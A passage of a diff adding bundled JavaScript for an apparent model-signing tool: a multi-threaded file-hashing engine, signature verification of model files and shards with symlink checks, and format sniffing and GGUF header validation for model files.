+var ADDON_PATH, addon, why, ERRNO_NAMES, errName, FAILURES, MODE, outOfRange;
+var init_native = __esm({
+  "src/hashing/native.ts"() {
+    "use strict";
+    init_read();
+    ADDON_PATH = fileURLToPath(new URL("../../native/build/Release/modelsign_native.node", import.meta.url));
+    why = "";
+    ERRNO_NAMES = new Map(Object.entries(os2.constants.errno).map(([k2, v2]) => [v2, k2]));
+    errName = (n) => ERRNO_NAMES.get(n) ?? `errno ${n}`;
+    FAILURES = [
+      ["FILE_IS_SYMLINK", MSG.symlink],
+      ["FILE_MISSING", MSG.missing],
+      ["FILE_UNREADABLE", (e) => `cannot open: ${errName(e)}`],
+      ["SPECIAL_FILE", MSG.special],
+      ["FILE_REPLACED", MSG.replaced],
+      ["FILE_CHANGED_DURING_HASH", MSG.sizeMoved],
+      ["FILE_CHANGED_DURING_HASH", MSG.shrank],
+      ["FILE_CHANGED_DURING_HASH", MSG.changed],
+      ["FILE_UNREADABLE", (e) => `cannot read: ${errName(e)}`]
+    ];
+    MODE = { auto: 0, openssl: 1, x1: 2 };
+    outOfRange = (t) => !(Number.isSafeInteger(t.start) && Number.isSafeInteger(t.end) && Number.isSafeInteger(t.expectSize) && 0 <= t.start && t.start <= t.end && t.end <= t.expectSize);
+  }
+});
+
+// src/hashing/engine.ts
+var engine_exports = {};
+__export(engine_exports, {
+  PROGRESS_TICK_MS: () => PROGRESS_TICK_MS,
+  defaultJobs: () => defaultJobs,
+  hashTasks: () => hashTasks,
+  lastEngineRun: () => lastEngineRun,
+  prewarmHashPool: () => prewarmHashPool,
+  shutdownHashPool: () => shutdownHashPool
+});
+import os3 from "node:os";
+import { existsSync as existsSync2 } from "node:fs";
+import { fileURLToPath as fileURLToPath2 } from "node:url";
+import { Worker } from "node:worker_threads";
+function workerUrl() {
+  const here = new URL("./worker.js", import.meta.url);
+  if (existsSync2(fileURLToPath2(here))) return here;
+  return new URL("../../dist/hashing/worker.js", import.meta.url);
+}
+function defaultJobs() {
+  return Math.max(1, typeof os3.availableParallelism === "function" ? os3.availableParallelism() : os3.cpus().length);
+}
+function resolveJobs(jobs) {
+  return Math.max(1, Math.min(jobs ?? defaultJobs(), MAX_JOBS));
+}
+function lastEngineRun() {
+  return lastRun;
+}
+function prewarmHashPool(opts = {}) {
+  if ((opts.alg ?? "sha256") === "sha256" && opts.readSize === void 0 && loadNative2()) return;
+  const size = resolveJobs(opts.jobs);
+  const readSize = opts.readSize ?? READ_SIZE;
+  if (shared && !shared.broken && shared.size === size && shared.readSize === readSize) return;
+  if (shared && !shared.inUse) void shared.terminate();
+  shared = new Pool(size, readSize);
+}
+async function shutdownHashPool() {
+  const p2 = shared;
+  shared = void 0;
+  if (p2) await p2.terminate();
+}
+function acquirePool(jobs, need, readSize) {
+  const fits = (p2) => !p2.broken && p2.readSize === readSize && p2.size <= jobs && p2.size >= Math.min(jobs, need);
+  if (shared && !shared.inUse && fits(shared)) return { pool: shared, temporary: false };
+  if (shared && shared.inUse) return { pool: new Pool(Math.min(jobs, need), readSize), temporary: true };
+  if (shared) void shared.terminate();
+  shared = new Pool(Math.min(jobs, need), readSize);
+  return { pool: shared, temporary: false };
+}
+function hashInline(tasks, alg, total, readSize, opts) {
+  const buf = Buffer.allocUnsafe(Math.max(4096, Math.min(readSize, total)));
+  let done = 0;
+  opts.onProgress?.(0, total);
+  const onRead = opts.onProgress ? (n) => opts.onProgress(done += n, total) : void 0;
+  return tasks.map((t) => hashRange(t, alg, buf, onRead));
+}
+async function runNative(nat, tasks, sizes, total, jobs, opts) {
+  const order = sizes.map((_2, i) => i).sort((a, b2) => sizes[b2] - sizes[a] || a - b2);
+  const small = total <= INLINE_BYTES && tasks.length <= INLINE_TASKS;
+  const threads = small ? 1 : Math.min(jobs, tasks.length);
+  const counters = new BigInt64Array(new SharedArrayBuffer(8));
+  const report2 = () => opts.onProgress?.(Math.min(total, Number(Atomics.load(counters, 0))), total);
+  report2();
+  const timer = opts.onProgress ? setInterval(report2, PROGRESS_TICK_MS) : void 0;
+  try {
+    const sorted = await hashNative(nat, order.map((i) => tasks[i]), { threads, counters, slot: 0 });
+    report2();
+    const results = new Array(tasks.length);
+    order.forEach((idx, j2) => results[idx] = sorted[j2]);
+    lastRun = { mode: "native", threadsUsed: threads };
+    return results;
+  } finally {
+    if (timer) clearInterval(timer);
+  }
+}
+async function hashTasks(tasks, alg, opts = {}) {
+  try {
+    return await runTasks(tasks, alg, opts);
+  } finally {
+    opts.onDone?.();
+  }
+}
+async function runTasks(tasks, alg, opts) {
+  const results = new Array(tasks.length);
+  if (tasks.length === 0) return results;
+  const sizes = tasks.map((t) => Math.max(0, t.end - t.start));
+  const total = sizes.reduce((s3, n) => s3 + n, 0);
+  const jobs = resolveJobs(opts.jobs);
+  const readSize = opts.readSize ?? READ_SIZE;
+  await prepareAlgorithm(alg);
+  const nat = alg === "sha256" && opts.mmap !== false ? loadNative2() : null;
+  if (nat) return runNative(nat, tasks, sizes, total, jobs, opts);
+  if (total <= INLINE_BYTES && tasks.length <= INLINE_TASKS) {
+    lastRun = { mode: "inline", threadsUsed: 0 };
+    return hashInline(tasks, alg, total, readSize, opts);
+  }
+  const order = sizes.map((_2, i) => i).sort((a, b2) => sizes[b2] - sizes[a] || a - b2);
+  const { pool, temporary } = acquirePool(jobs, tasks.length, readSize);
+  const nWorkers = pool.size;
+  let next = 0;
+  let remaining = total;
+  const takeBatch = () => {
+    const target = Math.min(BATCH_MAX_BYTES, Math.max(BATCH_MIN_BYTES, remaining / (4 * nWorkers)));
+    const maxTasks = Math.min(BATCH_MAX_TASKS, Math.max(1, Math.ceil((order.length - next) / (2 * nWorkers))));
+    const idx = [];
+    let bytes = 0;
+    while (next < order.length && idx.length < maxTasks) {
+      const i = order[next];
+      if (idx.length > 0 && bytes + sizes[i] > target) break;
+      idx.push(i);
+      bytes += sizes[i];
+      next++;
+    }
+    remaining -= bytes;
+    return { idx, bytes };
+  };
+  const used = /* @__PURE__ */ new Set();
+  pool.inUse = true;
+  pool.hold(true);
+  const base2 = pool.bytesRead();
+  let timer;
+  const report2 = () => opts.onProgress?.(Math.min(total, pool.bytesRead() - base2), total);
+  report2();
+  if (opts.onProgress) timer = setInterval(report2, PROGRESS_TICK_MS);
+  const cleanups = [];
+  try {
+    await new Promise((resolve, rejectP) => {
+      let completed = 0;
+      let reqId = 0;
+      const inflight = /* @__PURE__ */ new Map();
+      const pending = /* @__PURE__ */ new Map();
+      const small = /* @__PURE__ */ new Map();
+      const sendOne = (w2) => {
+        const batch = takeBatch();
+        if (batch.idx.length === 0) return false;
+        const id2 = reqId++;
+        inflight.set(id2, batch.idx);
+        pending.set(w2, (pending.get(w2) ?? 0) + 1);
+        small.set(w2, batch.bytes < PIPELINE_BYTES);
+        const req = { id: id2, alg, tasks: batch.idx.map((i) => tasks[i]) };
+        w2.postMessage(req);
+        used.add(w2);
+        return true;
+      };
+      const topUp = (w2) => {
+        const n = pending.get(w2) ?? 0;
+        if (n === 0) sendOne(w2);
+        if ((pending.get(w2) ?? 0) === 1 && small.get(w2)) sendOne(w2);
+      };
+      const active = pool.workers.slice(0, Math.min(nWorkers, tasks.length));
+      for (const w2 of active) {
+        const onMessage = (res) => {
+          const batch = inflight.get(res.id);
+          if (!batch) return;
+          inflight.delete(res.id);
+          pending.set(w2, pending.get(w2) - 1);
+          batch.forEach((idx, j2) => results[idx] = res.results[j2]);
+          completed += batch.length;
+          report2();
+          if (completed === tasks.length) resolve();
+          else topUp(w2);
+        };
+        const onError = (e) => rejectP(e);
+        const onExit = (code) => rejectP(new Error(`hash worker exited with code ${code}`));
+        w2.on("message", onMessage);
+        w2.on("error", onError);
+        w2.on("exit", onExit);
+        cleanups.push(() => {
+          w2.off("message", onMessage);
+          w2.off("error", onError);
+          w2.off("exit", onExit);
+        });
+      }
+      for (const w2 of active) sendOne(w2);
+      for (const w2 of active) topUp(w2);
+    });
+  } catch (e) {
+    await pool.terminate();
+    if (shared === pool) shared = void 0;
+    throw e;
+  } finally {
+    if (timer) clearInterval(timer);
+    for (const c of cleanups) c();
+    pool.inUse = false;
+    pool.hold(false);
+    if (temporary) await pool.terminate();
+  }
+  lastRun = { mode: "pool", threadsUsed: used.size };
+  return results;
+}
+var MAX_JOBS, INLINE_BYTES, INLINE_TASKS, BATCH_MAX_BYTES, BATCH_MIN_BYTES, BATCH_MAX_TASKS, PIPELINE_BYTES, PROGRESS_TICK_MS, Pool, shared, lastRun;
+var init_engine = __esm({
+  "src/hashing/engine.ts"() {
+    "use strict";
+    init_algorithms2();
+    init_read();
+    init_native();
+    MAX_JOBS = 64;
+    INLINE_BYTES = 8 * 1024 * 1024;
+    INLINE_TASKS = 128;
+    BATCH_MAX_BYTES = 64 * 1024 * 1024;
+    BATCH_MIN_BYTES = 1024 * 1024;
+    BATCH_MAX_TASKS = 256;
+    PIPELINE_BYTES = 8 * 1024 * 1024;
+    PROGRESS_TICK_MS = 100;
+    Pool = class {
+      constructor(size, readSize) {
+        this.size = size;
+        this.readSize = readSize;
+        const sab = new SharedArrayBuffer(8 * size);
+        this.counters = new BigInt64Array(sab);
+        const url = workerUrl();
+        for (let slot = 0; slot < size; slot++) {
+          const init = { progress: sab, slot, readSize };
+          const w2 = new Worker(url, { workerData: init });
+          w2.on("error", () => this.broken = true);
+          w2.on("exit", () => this.broken = true);
+          w2.unref();
+          this.workers.push(w2);
+        }
+      }
+      workers = [];
+      counters;
+      inUse = false;
+      broken = false;
+      /** Bytes read by all workers since the pool started (monotonic). */
+      bytesRead() {
+        let s3 = 0n;
+        for (let i = 0; i < this.size; i++) s3 += Atomics.load(this.counters, i);
+        return Number(s3);
+      }
+      hold(on) {
+        for (const w2 of this.workers) {
+          if (on) w2.ref();
+          else w2.unref();
+        }
+      }
+      async terminate() {
+        this.broken = true;
+        await Promise.all(this.workers.map((w2) => w2.terminate()));
+      }
+    };
+  }
+});
+
+// src/hashing/source.ts
+function rangeKey(name2, start, end) {
+  return `${name2}\0${start}\0${end}`;
+}
+function plannedRanges(method, shardSize, size) {
+  if (method === "files" || !shardSize) return [[0, size]];
+  if (size === 0) return [[0, 0]];
+  const out2 = [];
+  for (let s3 = 0; s3 < size; s3 += shardSize) out2.push([s3, Math.min(size, s3 + shardSize)]);
+  return out2;
+}
+function lookupRange(hashed, name2, start, end) {
+  return hashed.get(rangeKey(name2, start, end)) ?? { ok: false, code: "FILE_CHANGED", message: `byte range ${start}:${end} does not exist in the archive entry` };
+}
+var init_source = __esm({
+  "src/hashing/source.ts"() {
+    "use strict";
+  }
+});
+
+// src/verify/files.ts
+import { lstat as lstat2, realpath as realpath2 } from "node:fs/promises";
+import path6 from "node:path";
+function parseShardName(name2) {
+  const m2 = /^(.*):(\d{1,16}):(\d{1,16})$/s.exec(name2);
+  if (!m2) return void 0;
+  const start = Number(m2[2]);
+  const end = Number(m2[3]);
+  if (!Number.isSafeInteger(start) || !Number.isSafeInteger(end) || end < start) return void 0;
+  return { path: m2[1], start, end };
+}
+async function statInside(root, name2, allowSymlinks) {
+  const missing = { code: "FILE_MISSING", path: name2, message: "signed file is missing" };
+  const segs = name2.split("/");
+  let cur = root;
+  let viaLink = false;
+  for (let i = 0; i < segs.length; i++) {
+    cur = path6.join(cur, segs[i]);
+    let st3;
+    try {
+      st3 = await lstat2(cur);
+    } catch {
+      return missing;
+    }
+    if (st3.isSymbolicLink()) {
+      if (!allowSymlinks) return { code: "SYMLINK_REFUSED", path: name2, message: "signed path goes through a symlink" };
+      viaLink = true;
+    }
+  }
+  let abs = cur;
+  if (viaLink) {
+    try {
+      abs = await realpath2(cur);
+    } catch {
+      return { code: "SYMLINK_BROKEN", path: name2, message: "symlink target does not exist" };
+    }
+    const rootReal = await realpath2(root);
+    if (!abs.startsWith(rootReal.endsWith(path6.sep) ? rootReal : rootReal + path6.sep)) {
+      return { code: "SYMLINK_OUTSIDE", path: name2, message: "signed path goes through a symlink out of the model" };
+    }
+  }
+  let st2;
+  try {
+    st2 = await lstat2(abs);
+  } catch {
+    return missing;
+  }
+  if (!st2.isFile()) return { code: "SPECIAL_FILE", path: name2, message: "signed path is not a regular file" };
+  return { name: name2, abs, size: st2.size, viaLink: false, id: { dev: st2.dev, ino: st2.ino } };
+}
+function effectiveIgnores(model, signaturePath, signed, user) {
+  const out2 = new Set([...DEFAULT_IGNORES, ...signed ?? [], ...user].map(normaliseIgnorePath));
+  const rel = path6.relative(path6.resolve(model), path6.resolve(signaturePath));
+  if (rel && !rel.startsWith("..") && !path6.isAbsolute(rel)) out2.add(rel.split(path6.sep).join("/"));
+  return [...out2].filter((p2) => p2 !== "" && p2 !== ".");
+}
+function specialModelIsRejection(e) {
+  if (e instanceof ModelsignError && e.code === "SPECIAL_FILE") throw reject("SPECIAL_FILE", e.message);
+  throw e;
+}
+async function checkFiles(input) {
+  const { serialization: ser } = input;
+  const failures = [];
+  const ignores = effectiveIgnores(input.model, input.signaturePath, ser.ignore_paths, input.ignorePaths);
+  const pre = input.listing || !input.source ? void 0 : await input.source(sourceRequest(input, ignores));
+  const listing = input.listing ?? pre?.listing ?? await enumerateModel(input.model, { ignorePaths: ignores, allowSymlinks: ser.allow_symlinks }).catch(specialModelIsRejection);
+  const onDisk = new Map(listing.files.map((f2) => [f2.name, f2]));
+  const byFile = /* @__PURE__ */ new Map();
+  for (const r of input.resources) {
+    let p2;
+    let start = 0;
+    let end = -1;
+    if (ser.method === "shards") {
+      const s3 = parseShardName(r.name);
+      if (!s3) {
+        failures.push({ code: "UNSAFE_NAME", path: r.name, message: 'shard resource name is not "path:start:end"' });
+        continue;
+      }
+      ({ path: p2, start, end } = s3);
+    } else {
+      p2 = r.name;
+    }
+    if (listing.isFile) {
+      const only = listing.files[0];
+      if (p2 === "." || p2 === only.name) p2 = only.name;
+    } else if (p2 !== "." || ser.method !== "files") {
+      const why2 = unsafeNameReason(p2);
+      if (why2) {
+        failures.push({ code: "UNSAFE_NAME", path: p2, message: `unsafe resource name in signature: ${why2}` });
+        continue;
+      }
+    }
+    const list2 = byFile.get(p2) ?? [];
+    list2.push({ resource: r, start, end });
+    byFile.set(p2, list2);
+  }
+  for (const p2 of listing.problems) {
+    if (input.ignoreUnsignedFiles && p2.path !== void 0 && !byFile.has(p2.path)) continue;
+    failures.push(p2);
+  }
+  const tasks = [];
+  const taskRanges = [];
+  for (const [name2, ranges] of byFile) {
+    let f2 = onDisk.get(name2);
+    if (!f2) {
+      if (listing.isFile || !isIgnored(name2, ignores)) {
+        if (!listing.problems.some((x) => x.path === name2)) failures.push({ code: "FILE_MISSING", path: name2, message: "signed file is missing" });
+        continue;
+      }
+      const found = await statInside(listing.root, name2, ser.allow_symlinks);
+      if ("code" in found) {
+        failures.push(found);
+        continue;
+      }
+      f2 = found;
+    }
+    if (ser.method === "files") {
+      if (ranges.length !== 1) continue;
+      ranges[0].end = f2.size;
+    } else {
+      ranges.sort((a, b2) => a.start - b2.start);
+      let pos = 0;
+      let ok = true;
+      for (const r of ranges) {
+        if (r.start !== pos) ok = false;
+        pos = r.end;
+      }
+      if (!ok || pos !== f2.size) {
+        failures.push({ code: "FILE_CHANGED", path: name2, message: `file size ${f2.size} does not match the signed shards` });
+        continue;
+      }
+    }
+    for (const r of ranges) {
+      tasks.push({ abs: f2.abs, start: r.start, end: r.end, expectSize: f2.size, followLink: f2.viaLink, ...f2.id ? { expectId: f2.id } : {} });
+      taskRanges.push({ file: name2, range: r });
+    }
+  }
+  if (!input.ignoreUnsignedFiles) {
+    for (const f2 of listing.files) {
+      if (!byFile.has(f2.name)) failures.push({ code: "FILE_UNEXPECTED", path: f2.name, message: "file is not in the signature" });
+    }
+  }
+  const alg = ser.hash_type;
+  await prepareAlgorithm(alg);
+  const outcomes = pre ? taskRanges.map(({ file, range }) => lookupRange(pre.hashed, file, range.start, range.end)) : await hashTasks(tasks, alg, input.engine);
+  const changed = /* @__PURE__ */ new Set();
+  let bytesHashed = 0;
+  outcomes.forEach((o, i) => {
+    const { file, range } = taskRanges[i];
+    bytesHashed += range.end - range.start;
+    if (changed.has(file)) return;
+    if (!o.ok) {
+      changed.add(file);
+      failures.push({ code: o.code, path: file, message: o.message });
+    } else if (o.digest !== range.resource.digest) {
+      changed.add(file);
+      failures.push({ code: "FILE_CHANGED", path: file, message: "file content does not match the signature" });
+    }
+  });
+  return { failures, filesChecked: byFile.size, bytesHashed };
+}
+function sourceRequest(input, ignorePaths) {
+  const ser = input.serialization;
+  const signed = /* @__PURE__ */ new Map();
+  for (const r of input.resources) {
+    const s3 = ser.method === "shards" ? parseShardName(r.name) : { path: r.name, start: 0, end: -1 };
+    if (!s3) continue;
+    const list2 = signed.get(s3.path) ?? [];
+    list2.push([s3.start, s3.end]);
+    signed.set(s3.path, list2);
+  }
+  return {
+    alg: ser.hash_type,
+    allowSymlinks: ser.allow_symlinks,
+    ignorePaths,
+    signedPaths: new Set(signed.keys()),
+    ...input.engine?.onProgress ? { onProgress: input.engine.onProgress } : {},
+    ranges: (name2, size) => {
+      const list2 = signed.get(name2);
+      if (!list2 || ser.method === "files") return plannedRanges("files", void 0, size);
+      return list2;
+    }
+  };
+}
+var init_files = __esm({
+  "src/verify/files.ts"() {
+    "use strict";
+    init_errors();
+    init_algorithms2();
+    init_engine();
+    init_enumerate();
+    init_paths();
+    init_source();
+  }
+});
+
+// src/scan/npy.ts
+async function readNpyHeader(src) {
+  if (!await src.ensure(10)) return { ok: false, problem: "file is too short for a .npy header" };
+  const head = src.take(8);
+  if (!head.subarray(0, 6).equals(NPY_MAGIC)) return { ok: false, problem: "missing the \\x93NUMPY magic" };
+  const major = head[6];
+  if (major < 1 || major > 3) return { ok: false, problem: `unsupported .npy version ${major}` };
+  const len = major === 1 ? (await src.read(2)).readUInt16LE(0) : (await src.read(4)).readUInt32LE(0);
+  if (len > 1 << 20) return { ok: false, problem: `header length ${len} is implausibly large` };
+  if (!await src.ensure(len)) return { ok: false, problem: "header runs past the end of the file" };
+  const header = src.take(len).toString(major === 3 ? "utf8" : "latin1");
+  if (!/'descr'\s*:/.test(header)) return { ok: false, problem: "header has no descr" };
+  const objectDtype = /['"][|<>=]?O\d*['"]/.test(header) || /object/.test(header);
+  return { ok: true, objectDtype, header: header.trim() };
+}
+var NPY_MAGIC;
+var init_npy = __esm({
+  "src/scan/npy.ts"() {
+    "use strict";
+    NPY_MAGIC = Buffer.from([147, 78, 85, 77, 80, 89]);
+  }
+});
+
+// src/scan/detect.ts
+function ext(name2) {
+  const base2 = name2.slice(name2.lastIndexOf("/") + 1).toLowerCase();
+  const i = base2.lastIndexOf(".");
+  return i <= 0 ? "" : base2.slice(i);
+}
+function looksLikeOldPickle(head) {
+  const t = head.toString("latin1");
+  return /^\(?[ci][A-Za-z_][\w.]*\n[A-Za-z_][\w.]*\n[(pq)N}\]SVIFKJMXUR.\x85\x86\x87]/.test(t) || /^\((?:dp\d+\n|lp\d+\n|t[.Rp])/.test(t) || /^[}\]](?:q\x00|\(|\.)/.test(t);
+}
+function sniff(head, name2) {
+  if (head.length >= 4 && head[0] === 80 && head[1] === 75 && (head[2] === 3 && head[3] === 4 || head[2] === 5 && head[3] === 6)) return "zip";
+  if (head.length >= 6 && head.subarray(0, 6).equals(NPY_MAGIC)) return "npy";
+  if (head.length >= 4 && head.toString("latin1", 0, 4) === "GGUF") return "gguf";
+  if (head.length >= 9 && head[8] === 123 && head.readBigUInt64LE(0) < 100000000n) return "safetensors";
+  if (head.length >= 2 && head[0] === 128 && head[1] <= 5) return "pickle";
+  const e = ext(name2);
+  if (looksLikeOldPickle(head)) return "pickle";
+  if (e === ".safetensors") return "safetensors";
+  if (e === ".gguf") return "gguf";
+  if (e === ".npy") return "npy";
+  if (e === ".npz" || e === ".zip") return "zip";
+  if (e !== ".bin" && PICKLE_EXTENSIONS.includes(e)) return "pickle";
+  return "unknown";
+}
+function memberWorthScanning(name2) {
+  const e = ext(name2);
+  return PICKLE_EXTENSIONS.includes(e) || e === ".npy" || e === ".safetensors" || e === ".gguf";
+}
+var PICKLE_EXTENSIONS, SNIFF_BYTES;
+var init_detect = __esm({
+  "src/scan/detect.ts"() {
+    "use strict";
+    init_npy();
+    PICKLE_EXTENSIONS = [".pkl", ".pickle", ".bin", ".pt", ".pth", ".ckpt", ".joblib"];
+    SNIFF_BYTES = 64;
+  }
+});
+
+// src/scan/source.ts
+import { createReadStream } from "node:fs";
+var Truncated, ByteSource;
+var init_source2 = __esm({
+  "src/scan/source.ts"() {
+    "use strict";
+    Truncated = class extends Error {
+      constructor(at2) {
+        super(`unexpected end of data at offset ${at2}`);
+        this.at = at2;
+      }
+    };
+    ByteSource = class _ByteSource {
+      constructor(it2, size) {
+        this.it = it2;
+        this.size = size;
+      }
+      buf = Buffer.alloc(0);
+      off = 0;
+      done = false;
+      /** Absolute offset of the next unread byte. */
+      pos = 0;
+      static fromFile(file, start = 0, end) {
+        if (end !== void 0 && end <= start) return _ByteSource.fromBuffer(Buffer.alloc(0));
+        const s3 = createReadStream(file, { start, ...end !== void 0 ? { end: end - 1 } : {}, highWaterMark: 1 << 20 });
+        const src = new _ByteSource(s3[Symbol.asyncIterator](), end !== void 0 ? end - start : void 0);
+        src.pos = 0;
+        return src;
+      }
+      static fromBuffer(b2) {
+        const src = new _ByteSource((async function* () {
+        })(), b2.length);
+        src.buf = b2;
+        src.done = true;
+        return src;
+      }
+      static fromIterable(it2, size) {
+        return new _ByteSource(it2[Symbol.asyncIterator](), size);
+      }
+      get buffered() {
+        return this.buf.length - this.off;
+      }
+      static toBuf(v2) {
+        return typeof v2 === "string" ? Buffer.from(v2, "latin1") : Buffer.isBuffer(v2) ? v2 : Buffer.from(v2.buffer, v2.byteOffset, v2.byteLength);
+      }
+      /** Buffer at least n bytes; false when the data ends first. */
+      async ensure(n) {
+        if (this.buffered >= n) return true;
+        const parts = [this.buf.subarray(this.off)];
+        let have = parts[0].length;
+        while (have < n && !this.done) {
+          const r = await this.it.next();
+          if (r.done) {
+            this.done = true;
+            break;
+          }
+          const b2 = _ByteSource.toBuf(r.value);
+          parts.push(b2);
+          have += b2.length;
+        }
+        this.buf = parts.length === 1 ? parts[0] : Buffer.concat(parts, have);
+        this.off = 0;
+        return have >= n;
+      }
+      /** Only after ensure(n). */
+      u8() {
+        this.pos++;
+        return this.buf[this.off++];
+      }
+      /** Only after ensure(n); the returned view is valid until the next read. */
+      take(n) {
+        const b2 = this.buf.subarray(this.off, this.off + n);
+        this.off += n;
+        this.pos += n;
+        return b2;
+      }
+      peek(n) {
+        return this.buf.subarray(this.off, this.off + n);
+      }
+      async read(n) {
+        if (!await this.ensure(n)) throw new Truncated(this.pos + this.buffered);
+        return this.take(n);
+      }
+      /** Drop n bytes (streamed past, never buffered whole). */
+      async skip(n) {
+        while (n > 0) {
+          if (this.buffered === 0 && !await this.ensure(1)) throw new Truncated(this.pos);
+          const k2 = Math.min(n, this.buffered);
+          this.off += k2;
+          this.pos += k2;
+          n -= k2;
+        }
+      }
+      /** Read the rest and return how many bytes there were. */
+      async drain() {
+        let n = 0;
+        for (; ; ) {
+          if (this.buffered === 0 && !await this.ensure(1)) return n;
+          n += this.buffered;
+          this.pos += this.buffered;
+          this.off = this.buf.length;
+        }
+      }
+      /** A line ending in "\n" (without it), at most max bytes; undefined if longer. */
+      async line(max) {
+        let scanned = 0;
+        for (; ; ) {
+          const idx = this.buf.indexOf(10, this.off + scanned);
+          if (idx >= 0 && idx - this.off <= max) {
+            const b2 = this.buf.subarray(this.off, idx);
+            const n = idx - this.off + 1;
+            this.off += n;
+            this.pos += n;
+            return b2;
+          }
+          if (idx >= 0 || this.buffered > max) return void 0;
+          scanned = this.buffered;
+          if (!await this.ensure(this.buffered + 1)) throw new Truncated(this.pos + this.buffered);
+        }
+      }
+      async atEnd() {
+        return !await this.ensure(1);
+      }
+      async close() {
+        this.done = true;
+        try {
+          await this.it.return?.();
+        } catch {
+        }
+      }
+    };
+  }
+});
+
+// src/scan/gguf.ts
+async function checkGguf(src, size, file, limits, member) {
+  const findings = [];
+  const add = (code, message, severity = "high") => findings.push({ code, severity, file, ...member !== void 0 ? { member } : {}, message });
+  const left = () => size - src.pos;
+  const u323 = async () => (await src.read(4)).readUInt32LE(0);
+  const u64 = async (what) => {
+    const v2 = (await src.read(8)).readBigUInt64LE(0);
+    if (v2 > BigInt(Number.MAX_SAFE_INTEGER)) throw new Bad(`${what} ${v2} is impossibly large`);
+    return Number(v2);
+  };
+  let version = 0;
+  const count = async (what) => version === 1 ? u323() : u64(what);
+  const string = async (what, keep) => {
+    const n = await count(`${what} length`);
+    if (n > limits.maxGgufString) throw new Bad(`${what} length ${n} exceeds the ${limits.maxGgufString}-byte limit`);
+    if (n > left()) throw new Bad(`${what} length ${n} runs past the end of the file`);
+    if (!keep) {
+      await src.skip(n);
+      return void 0;
+    }
+    return (await src.read(n)).toString("utf8");
+  };
+  try {
+    if (size < 8 || !await src.ensure(4) || src.peek(4).toString("latin1") !== "GGUF") {
+      const got = await src.ensure(4) ? JSON.stringify(src.peek(4).toString("latin1")) : "too few bytes";
+      add("GGUF_BAD_MAGIC", `not a GGUF file: magic is ${got}, expected "GGUF"`);
+      return findings;
+    }
+    await src.skip(4);
+    version = await u323();
+    if (version < 1 || version > 3) {
+      add("GGUF_VERSION", `unsupported GGUF version ${version} (known: 1-3)`);
+      return findings;
+    }
+    const tensors = await count("tensor count");
+    const kvs = await count("key/value count");
+    if (tensors > limits.maxGgufCount) throw new Bad(`tensor count ${tensors} exceeds the limit of ${limits.maxGgufCount}`);
+    if (kvs > limits.maxGgufCount) throw new Bad(`key/value count ${kvs} exceeds the limit of ${limits.maxGgufCount}`);
+    if (kvs * 12 + tensors * 24 > left()) throw new Bad(`${tensors} tensors and ${kvs} key/values cannot fit in ${size} bytes`);
+    let alignment = 32;
+    const value = async (type, key, depth) => {
+      const w2 = FIXED[type];
+      if (w2 !== void 0) {
+        if (key === "general.alignment" && type === 4) {
+          alignment = await u323();
+          return;
+        }
+        await src.read(w2);
+        return;
+      }
+      if (type === GGUF_STRING) {
+        await string(`value of ${key}`, false);
+        return;
+      }
+      if (type === GGUF_ARRAY) {
+        if (depth > 2) throw new Bad(`array nesting too deep in ${key}`);
+        const et2 = await u323();
+        const n = await count(`array length of ${key}`);
+        if (n > limits.maxGgufArray) throw new Bad(`array ${key} has ${n} elements, more than the limit of ${limits.maxGgufArray}`);
+        const ew = FIXED[et2];
+        if (ew !== void 0) {
+          if (n * ew > left()) throw new Bad(`array ${key} (${n} x ${ew} bytes) runs past the end of the file`);
+          await src.skip(n * ew);
+          return;
+        }
+        if (et2 !== GGUF_STRING && et2 !== GGUF_ARRAY) throw new Bad(`array ${key} has unknown element type ${et2}`);
+        if (n * 8 > left()) throw new Bad(`array ${key} of ${n} elements runs past the end of the file`);
+        if (et2 === GGUF_ARRAY) {
+          for (let i = 0; i < n; i++) await value(et2, key, depth + 1);
+          return;
+        }
+        const lenBytes = version === 1 ? 4 : 8;
+        for (let i = 0; i < n; i++) {
+          if (src.buffered < lenBytes && !await src.ensure(lenBytes)) throw new Truncated(src.pos + src.buffered);
+          const b2 = src.take(lenBytes);
+          const len = lenBytes === 4 ? b2.readUInt32LE(0) : Number(b2.readBigUInt64LE(0));
+          if (len > limits.maxGgufString) throw new Bad(`string ${i} of array ${key} is ${len} bytes, over the ${limits.maxGgufString}-byte limit`);
+          if (len > left()) throw new Bad(`string ${i} of array ${key} runs past the end of the file`);
+          if (src.buffered >= len) src.take(len);
+          else await src.skip(len);
+        }
+        return;
+      }
+      throw new Bad(`key ${key} has unknown value type ${type}`);
+    };
+    for (let i = 0; i < kvs; i++) {
+      const key = await string(`key ${i}`, true);
+      const type = await u323();
+      await value(type, JSON.stringify(key.slice(0, 120)), 0);
+    }
+    if (alignment === 0 || (alignment & alignment - 1) !== 0) throw new Bad(`general.alignment ${alignment} is not a power of two`);
+    const infos = [];
+    for (let i = 0; i < tensors; i++) {
+      const name2 = await string(`tensor ${i} name`, true);
+      const dims = await u323();
+      if (dims > MAX_DIMS) throw new Bad(`tensor ${JSON.stringify(name2.slice(0, 120))} has ${dims} dimensions (at most ${MAX_DIMS})`);
+      let elems = 1n;
+      for (let d = 0; d < dims; d++) elems *= BigInt(await u64("dimension"));
+      const type = await u323();
+      const offset = await u64("tensor offset");
+      const block = GGML_BLOCKS[type];
+      let bytes;
+      if (block) {
+        if (elems % BigInt(block[0]) !== 0n) throw new Bad(`tensor ${JSON.stringify(name2.slice(0, 120))} has ${elems} elements, not a multiple of its type's block of ${block[0]}`);
+        const b2 = elems / BigInt(block[0]) * BigInt(block[1]);
+        if (b2 > BigInt(size)) throw new Bad(`tensor ${JSON.stringify(name2.slice(0, 120))} needs ${b2} bytes, more than the whole file`);
+        bytes = Number(b2);
+      } else if (type > 63) {
+        add("GGUF_TENSOR", `tensor ${JSON.stringify(name2.slice(0, 120))} has unknown type ${type}`, "medium");
+      }
+      infos.push({ name: name2, offset, bytes });
+    }
+    const dataStart = Math.ceil(src.pos / alignment) * alignment;
+    const dataLen = size - dataStart;
+    if (tensors > 0 && dataLen < 0) throw new Bad("tensor data would start past the end of the file");
+    for (const t of infos) {
+      const shown = JSON.stringify(t.name.slice(0, 120));
+      if (t.offset % alignment !== 0) add("GGUF_TENSOR", `tensor ${shown} offset ${t.offset} is not aligned to ${alignment}`);
+      if (t.offset + (t.bytes ?? 0) > dataLen) add("GGUF_TENSOR", `tensor ${shown} (offset ${t.offset}${t.bytes !== void 0 ? `, ${t.bytes} bytes` : ""}) lies outside the ${dataLen} data bytes`);
+    }
+    infos.sort((a, b2) => a.offset - b2.offset);
+    for (let i = 1; i < infos.length; i++) {
+      const p2 = infos[i - 1];
